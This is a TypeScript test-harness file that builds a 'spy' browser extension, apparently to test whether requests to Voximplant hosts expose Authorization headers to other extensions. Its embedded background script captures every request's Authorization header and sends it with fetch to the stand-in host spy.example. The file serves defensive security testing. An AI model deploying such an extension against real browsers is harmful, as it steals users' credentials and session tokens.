import type { Standin } from '../../standin/standin.ts';
import { writeExtension } from '../harness/other-extension.ts';
import { until } from '../harness/wait.ts';

/*
 * Another extension, with every right to Voximplant's hosts that a person can give. What it sees it tells a host of
 * its own, as a real one would: the driver reaches no background in Firefox.
 */

export const SPY_HOST = 'spy.example';

export interface Seen {
  url: string;
  type: string;
  /** The Authorization header, if there was one. */
  authorization?: string;
}

const MANIFEST = {
  permissions: ['webRequest'],
  host_permissions: ['<all_urls>'],
  // Each browser takes the one that it knows.
  background: { service_worker: 'spy.js', scripts: ['spy.js'] },
};

const BACKGROUND = `
const { EXTRA_HEADERS } = chrome.webRequest.OnSendHeadersOptions;
chrome.webRequest.onSendHeaders.addListener(
  ({ url, type, requestHeaders }) => {
    if (new URL(url).host === '${SPY_HOST}') return;
    const authorization = requestHeaders.find(({ name }) => name.toLowerCase() === 'authorization')?.value;
    const told = encodeURIComponent(JSON.stringify({ url, type, authorization }));
    void fetch('https://${SPY_HOST}/told?' + told, { mode: 'no-cors' });
  },
  { urls: ['<all_urls>'] },
  ['requestHeaders', ...(EXTRA_HEADERS ? [EXTRA_HEADERS] : [])],
);`;

/** The folder of the unpacked extension. */
export function makeSpy(): Promise<string> {
  return writeExtension('spy', MANIFEST, { 'spy.js': BACKGROUND });
}

/** All that it has told so far. */
export function toldBySpy({ requests }: Standin): Seen[] {
  const told = requests.filter(({ host }) => host === SPY_HOST);
  return told.map(({ query }) => JSON.parse(decodeURIComponent(query)) as Seen);
}

/** Waits until it has told of a document: all that was asked for before has been told by then. */
export async function untilSpySaw(standin: Standin, address: string): Promise<Seen> {
  return until(`the other extension sees ${address}`, () =>
    toldBySpy(standin).find(({ url, type }) => url === address && type === 'main_frame'),
  );
}
